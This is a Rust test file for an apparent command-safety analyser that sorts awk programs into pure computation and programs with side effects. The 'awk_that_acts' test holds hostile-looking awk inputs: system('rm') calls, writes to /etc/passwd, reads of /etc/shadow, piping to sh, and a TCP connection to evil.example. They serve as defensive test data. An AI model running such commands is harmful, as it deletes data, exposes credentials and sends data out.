//! awk.

use super::table;

#[test]
fn awk_that_only_computes() {
    let rows: Vec<(&str, &str)> = [
        "{print $1}",
        "NR>1 && $3 > 5 {s += $2} END {print s}",
        "/a|b/ {n++}",
        "{if (a > b) print \"x>y\"}",
        "BEGIN {FS=\":\"} {printf \"%s|%s\\n\", $1, $2}",
        "{getline; print}",
        "{print (a > b)}",
        "$1 ~ /x>y/ || $2",
        "{a[$1]++} END {for (k in a) print k, a[k] | \"sort\"}",
        "{print $1/$2}",
        "function f(x) {return x*2} {print f($1)}",
        "{print > \"/dev/stderr\"}",
        "BEGIN{print toupper(\"x\") substr(\"abc\", 1, 2)}",
        "!seen[$0]++",
        "{ gsub(/[^a-z/]/, \"\"); print length($0) }",
        "BEGIN{print ENVIRON[\"HOME\"]}",
    ]
    .map(|code| (code, if code.contains("sort") { "awk; sort" } else { "awk" }))
    .to_vec();
    table(&["awk"], &rows);
}

#[test]
fn awk_that_acts() {
    table(
        &["awk"],
        &[
            ("BEGIN{system(\"rm x\")}", "awk; rm delete /w/x"),
            ("BEGIN{system(\"rm \" \"x\")}", "awk; rm delete /w/x"),
            ("BEGIN{system(cmd)}", "awk ?"),
            ("{system(\"rm \" $1)}", "awk ?"),
            ("{print > \"out\"}", "awk write /w/out"),
            ("{print >> \"/etc/passwd\"}", "awk write /etc/passwd"),
            ("{print $2 > $1}", "awk ?"),
            ("{print $2 > $1\".txt\"}", "awk ?"),
            ("{print | \"sh\"}", "awk; sh ?"),
            ("{print | \"cat > /etc/x\"}", "awk; cat write /etc/x"),
            ("{\"date\" | getline d; print d}", "awk; date"),
            ("{\"cat \" $1 | getline d}", "awk ?"),
            ("BEGIN{while ((\"ls\" | getline f) > 0) print f}", "awk; ls list /w"),
            ("{getline < \"/etc/shadow\"; print}", "awk read /etc/shadow"),
            ("{while ((getline x < \"f\") > 0) n++}", "awk read /w/f"),
            ("{getline x < $1}", "awk ?"),
            ("{printf(\"%s\", $1) > \"f\"}", "awk write /w/f"),
            ("@load \"x\"", "awk ?"),
            ("BEGIN{f=\"system\"; @f(\"rm x\")}", "awk ?"),
            ("BEGIN{print \"x\" |& \"/inet/tcp/0/evil.example/80\"}", "awk connect evil.example disclose"),
            ("BEGIN{s = \"a\\\"b\"; system(\"rm x\")}", "awk; rm delete /w/x"),
            ("{a = b / c; system(\"rm x\") / 2}", "awk; rm delete /w/x"),
            ("BEGIN{\"unterminated", "awk ?"),
        ],
    );
}
